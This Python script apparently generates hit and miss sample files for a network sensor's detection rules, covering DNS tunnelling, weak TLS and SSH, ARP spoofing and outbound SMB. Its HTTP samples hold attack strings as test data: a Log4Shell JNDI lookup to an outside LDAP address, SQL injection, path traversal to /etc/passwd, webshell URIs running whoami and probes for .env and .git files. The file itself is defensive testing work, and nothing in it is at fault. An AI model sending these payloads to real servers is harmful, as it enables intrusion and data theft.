"""Writes rules/samples/network: hand-made packets through the sensor's own parsers, then as Events.

Run from the project's root: ``python tests/sensors/network/make_rule_samples.py``. The output is the same on
every run. rules/samples/benign/network.ndjson is recorded traffic and is written by record_benign.py.
"""

import sys
from base64 import b32encode
from hashlib import sha256
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import conversation_samples
import craft

from sensors.event import Observation, encode, stamp
from sensors.network.inspection import Inspection
from sensors.network.observation import Reporter
from sensors.network.self_test import SelfTest, observed
from sensors.network.settings import NetworkSettings

FOLDER = Path("rules/samples/network")
CORRELATIONS = Path("rules/samples/correlation/network")
START = 1_795_312_800.0  # 2026-11-22 02:00 UTC
LABEL = b32encode(sha256(b"drill").digest()).decode().rstrip("=").lower()
RESOLVER = "127.0.0.1"


def observe(*packets: bytes) -> list[Observation]:
    inspection = Inspection(NetworkSettings(), Reporter("sensor-1", "eth0"), live=False)
    for number, packet in enumerate(packets):
        inspection.see(packet, 1, START + number * 0.01)
    inspection.advance(START + 600.0)
    inspection.finish()
    return inspection.take()


def only(dataset: str, *packets: bytes, action: str = "") -> list[Observation]:
    seen = [one for one in observe(*packets) if one.fields["event.dataset"] == dataset]
    return [one for one in seen if not action or one.fields.get("event.action") == action]


def query(text: str, kind: int = 1, port: int = 53, server: str = craft.THERE) -> list[Observation]:
    return only("net.dns", craft.udp(craft.dns(text, kind), 40_000, port, destination=server))


def request(target: str, **more: str) -> list[Observation]:
    destination = more.pop("destination", craft.THERE)
    packets = craft.connection(craft.http(target, **more), 80, destination=destination)
    return only("net.http", *packets)


def hello(name: str, port: int, destination: str) -> list[Observation]:
    packets = craft.connection(craft.client_hello(name), port, destination=destination)
    return only("net.tls", *packets)


def chosen(suite: int, version: int, picked: int = 0) -> list[Observation]:
    answer = craft.server_hello(suite, version=version, chosen=picked)
    packets = craft.connection(craft.client_hello("a.example.gov.cn"), 443, answer=answer)
    return only("net.tls", *packets, action="server-hello")


def shown(**more: str | int) -> list[Observation]:
    """A server that shows a certificate."""
    answer = craft.server_hello(0xC02F) + craft.certificates(craft.certificate(**more))  # type: ignore[arg-type]
    packets = craft.connection(craft.client_hello("portal.example.gov.cn"), 443, answer=answer)
    return only("net.x509", *packets)


def opened(
    banner: str = "SSH-2.0-OpenSSH_9.6", action: str = "key-exchange", **lists: str
) -> list[Observation]:
    """What is told of an opening of SSH with one list on both sides."""
    said = f"{banner}\r\n".encode() + craft.ssh_lists(**lists)
    return only("net.ssh", *craft.connection(said, 22, answer=said), action=action)


def flow(port: int, destination: str = craft.THERE, answer: bytes = b"220 ready\r\n") -> list[Observation]:
    packets = craft.connection(b"USER test\r\n", port, answer=answer, destination=destination)
    return only("net.flow", *packets)


def capture(dropped: int) -> list[Observation]:
    counts = {"received": 1_000, "dropped": dropped, "interface_dropped": 0}
    return [Reporter("sensor-1", "eth0").capture(counts, START)]


def tested(**found: list[str] | str) -> Observation:
    result = SelfTest(**{"passed": [], "failed": [], **found})  # type: ignore[arg-type]
    return observed(result, "sensor-1", START)


Samples = dict[str, tuple[list[Observation], list[Observation]]]  # rule -> it must match, it must not


def name_samples() -> Samples:
    return {
        "dns_long_first_label": (
            query(f"{LABEL}.t.drill.invalid", port=15353, server=RESOLVER)
            + query(f"{LABEL[:44]}0.data.example.net", kind=16),
            query("www.example.gov.cn")
            + query(f"{LABEL}.avqs.mcafee.com")
            + query(f"{sha256(b'x').hexdigest()[:40]}.cdn.example.net")
            + query("a-very-long-but-readable-host-name-of-the-province.example.gov.cn"),
        ),
        "dns_tunnel_record_type": (
            query("aa.t.example.net", kind=10) + query(f"{LABEL[:30]}.t.example.net", kind=16),
            query("example.gov.cn", kind=16)
            + query("selector1._domainkey.example.gov.cn", kind=16)
            + query("abcdefghijklmnopqrstuvwxyz012._domainkey.example.gov.cn", kind=16),
        ),
        "dns_dynamic_dns_suffix": (
            query("office.f3322.net") + query("home1.duckdns.org"),
            query("3322.example.gov.cn") + query("www.duckdns.org.example.gov.cn"),
        ),
    }


def tls_samples() -> Samples:
    return {
        "tls_legacy_version": (
            chosen(0x002F, 0x0301) + chosen(0x000A, 0x0300),
            chosen(0xC02F, 0x0303) + chosen(0x1301, 0x0303, 0x0304) + chosen(0xE013, 0x0101),
        ),
        "tls_weak_cipher": (
            chosen(0x0005, 0x0303) + chosen(0x000A, 0x0303) + chosen(0x0018, 0x0303),
            chosen(0xC02F, 0x0303) + chosen(0x00C6, 0x0303, 0x0304),
        ),
        "tls_nameless_high_port": (
            hello("", 4_444, craft.PUBLIC),
            hello("", 4_444, craft.THERE)
            + hello("a.example.cn", 4_444, craft.PUBLIC)
            + hello("", 443, craft.PUBLIC),
        ),
    }


def crypto_samples() -> Samples:
    return {
        "x509_expired_in_use": (shown(ends="260101000000Z"), shown()),
        "x509_weak_key": (shown(bits=1_024) + shown(signature="2a864886f70d010105"), shown()),
        "ssh_weak_algorithm": (
            opened(cipher="3des-cbc")
            + opened(kex="diffie-hellman-group1-sha1")
            + opened(mac="hmac-md5")
            + opened("SSH-1.5-old", "server-banner"),
            opened() + opened(cipher="sm4-ctr", mac="hmac-sm3") + opened(action="server-banner"),
        ),
    }


def http_samples() -> Samples:
    basic = {"Authorization": "Basic YWRtaW46c2VjcmV0"}
    jndi = "${jndi:ldap://203.0.113.9/a}"
    return {
        "http_scanner_user_agent": (
            request("/", agent="sqlmap/1.8#stable (https://sqlmap.org)")
            + request("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"),
            request("/", agent="Mozilla/5.0 (X11; Linux x86_64) Firefox/145.0")
            + request("/nikto", agent="curl/8.5"),
        ),
        "http_path_traversal": (
            request("/download?file=../../../../etc/passwd") + request("/static/..%2f..%2f..%2fetc/hosts"),
            request("/static/../app.css") + request("/help/etc/passwd-policy.html"),
        ),
        "http_webshell_uri": (
            request("/images/c99.php")
            + request("/upload/2026/a.jsp?cmd=whoami")
            + request("/img/logo.asp;.jpg"),
            request("/upload/2026/report.pdf")
            + request("/admin/run.php?cmd=status")
            + request("/upload/list.jsp?page=2"),
        ),
        "http_sql_injection": (
            request("/item?id=1%20UNION%20SELECT%20user,password%20from%20users")
            + request("/item?id=1'%20or%20'1'='1")
            + request("/item?id=1;waitfor+delay+'0:0:5'"),
            request("/search?q=trade+union+selection+results")
            + request("/item?name=O'Brien")
            + request("/select?from=a&union=b"),
        ),
        "http_jndi_lookup": (
            request(f"/login?name={jndi}")
            + request("/", agent=jndi)
            + request("/", Referer="${${lower:j}ndi:rmi://x}"),
            request("/docs/jndi.html") + request("/api?q=${name}"),
        ),
        "http_sensitive_file_probe": (
            request("/.git/config") + request("/app/.env") + request("/actuator/heapdump"),
            request("/docs/env.html") + request("/actuator/health"),
        ),
        "http_basic_credentials": (
            request("/nas/", **basic),
            request("/nas/")
            + request("/nas/", destination="127.0.0.1", **basic)
            + request("/", Authorization="Bearer abc"),
        ),
    }


def neighbour_samples() -> Samples:
    moved = [
        craft.arp(2, craft.THERE, craft.HERE),
        craft.arp(2, craft.THERE, craft.HERE, sender_mac=craft.MAC_THERE),
    ]
    steady = [craft.arp(1, craft.HERE, craft.THERE), craft.arp(2, craft.HERE, craft.HERE)]
    return {
        "icmpv6_router_advertisement": (
            only("net.icmp", craft.router_advertisement()),
            only("net.icmp", craft.router_advertisement(lifetime=0))
            + only("net.icmp", craft.discovery(133, bytes(4))),
        ),
        "icmp_redirect": (
            only("net.icmp", craft.icmp(5, 1))
            + only("net.icmp", craft.discovery(137, bytes(36), destination="fe80::80")),
            only("net.icmp", craft.icmp(8)) + only("net.icmp", craft.icmp(3, 1)),
        ),
        "arp_address_moved": (only("net.arp", *moved)[1:], only("net.arp", *steady)),
        "arp_sender_differs": (
            only("net.arp", craft.arp(2, craft.THERE, craft.HERE, frame_mac="02:00:00:00:00:66")),
            only("net.arp", *steady),
        ),
    }


def flow_samples() -> Samples:
    refused = [
        craft.tcp(b"", 40_000, 23, craft.SYN),
        craft.tcp(b"", 23, 40_000, craft.RST, 0, craft.THERE, craft.HERE),
    ]
    unanswered = craft.tcp(b"", 40_000, 445, craft.SYN, destination=craft.PUBLIC)
    return {
        "conn_cleartext_login_service": (
            flow(23) + flow(21),
            flow(22) + only("net.flow", *refused),
        ),
        "conn_smb_outbound": (
            flow(445, craft.PUBLIC) + only("net.flow", unanswered),
            flow(445) + flow(443, craft.PUBLIC),
        ),
        "capture_packets_lost": (capture(17), capture(0)),
        "selftest_failed": (
            [tested(failed=["net.dns", "net.tls"]), tested(error="deadline")],
            [tested(passed=["net.dns", "net.tls"])],
        ),
    }


def samples() -> Samples:
    parts = (
        name_samples(),
        tls_samples(),
        crypto_samples(),
        http_samples(),
        neighbour_samples(),
        flow_samples(),
        conversation_samples.samples(only),
    )
    return {rule: pair for part in parts for rule, pair in part.items()}


def write(path: Path, seen: list[Observation]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    events = (
        stamp(one, unit="510100", sensor="sensor-1", epoch=1, sequence=n) for n, one in enumerate(seen, 1)
    )
    path.write_bytes(b"".join(encode(event) + b"\n" for event in events))


def main() -> None:
    for folder, made in ((FOLDER, samples()), (CORRELATIONS, conversation_samples.correlations(only))):
        for rule, (hits, misses) in made.items():
            write(folder / rule / "hit.ndjson", hits)
            write(folder / rule / "miss.ndjson", misses)


if __name__ == "__main__":
    main()
